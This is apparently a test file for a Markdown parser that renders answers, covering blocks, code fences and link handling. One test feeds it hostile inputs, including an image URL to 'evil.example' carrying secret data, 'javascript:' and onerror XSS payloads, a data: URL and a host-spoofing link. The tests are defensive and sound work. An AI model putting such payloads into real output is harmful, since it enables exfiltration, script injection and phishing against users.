import fc from 'fast-check';
import { type Block, type Inline, readMarkdown } from './markdown';

const linesOf = (block: Block): Inline[][] => {
  if (block.kind === 'paragraph') return block.lines;
  if (block.kind === 'list') return block.items;
  return block.kind === 'heading' ? [block.line] : [];
};
const piecesOf = (text: string) => readMarkdown(text).flatMap(linesOf).flat();
const linksIn = (text: string) => piecesOf(text).filter((piece) => piece.kind === 'link');

describe('The Markdown of an answer', () => {
  it('has paragraphs, headings, lists and code', () => {
    expect(
      readMarkdown('# Orders\nOne\ntwo\n\nthree\n- a\n- b\n1. c\n```sql\nSELECT 1\n\nFROM T\n```\nend'),
    ).toMatchObject([
      { kind: 'heading', line: [{ text: 'Orders' }] },
      { kind: 'paragraph', lines: [[{ text: 'One' }], [{ text: 'two' }]] },
      { kind: 'paragraph', lines: [[{ text: 'three' }]] },
      { kind: 'list', ordered: false, items: [[{ text: 'a' }], [{ text: 'b' }]] },
      { kind: 'list', ordered: true, items: [[{ text: 'c' }]] },
      { kind: 'code', text: 'SELECT 1\n\nFROM T' },
      { kind: 'paragraph', lines: [[{ text: 'end' }]] },
    ]);
  });

  it('takes code that is never closed to the end', () => {
    expect(readMarkdown('```\nSELECT 1')).toEqual([{ kind: 'code', text: 'SELECT 1' }]);
  });

  it('has links that tell their host, whatever they are called', () => {
    expect(linksIn('See [your bank](https://evil.example/login) or https://docs.snowflake.com/en.')).toMatchObject([
      { text: 'your bank', host: 'evil.example', url: 'https://evil.example/login' },
      { host: 'docs.snowflake.com' },
    ]);
  });

  it.each([
    '![a picture](https://evil.example/x.png?d=secret)',
    '[x](javascript:alert(1))',
    '[x](data:text/html,hi)',
    '[x](//evil.example)',
    '<img src=x onerror=alert(1)>',
    'https://docs.snowflake.com@evil.example/',
  ])('makes nothing of %s that can be followed under another name or is fetched', (text) => {
    expect(linksIn(text).filter((link) => 'text' in link && link.text !== link.url)).toEqual([]);
    const shown = piecesOf(text).map((piece) => piece.text);
    expect(shown.join('')).toBe(text);
  });

  it('never fails, leads only to the web, and keeps every word', () => {
    const word = fc.stringMatching(/^[a-z]{1,8}$/);
    const glue = fc.constantFrom(' ', '\n', '\n\n', '**', '`', '```\n', '- ', '[', '](https://a.example)', '![', '# ');
    fc.assert(
      fc.property(fc.array(fc.tuple(glue, word)), (parts) => {
        const text = parts.map(([before, after]) => `${before}${after}`).join('');
        const blocks = readMarkdown(text);
        const shown = blocks
          .map((block) =>
            block.kind === 'code'
              ? block.text
              : linesOf(block)
                  .flat()
                  .map((piece) => piece.text)
                  .join(''),
          )
          .join(' ');
        const fenced = text
          .split('\n')
          .filter((line) => line.trim().startsWith('```'))
          .join(' ');
        for (const [, after] of parts) expect(`${shown} ${fenced}`).toContain(after);
      }),
    );
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        for (const link of linksIn(text)) expect(link).toHaveProperty('url', expect.stringMatching(/^https?:/));
      }),
    );
  });
});
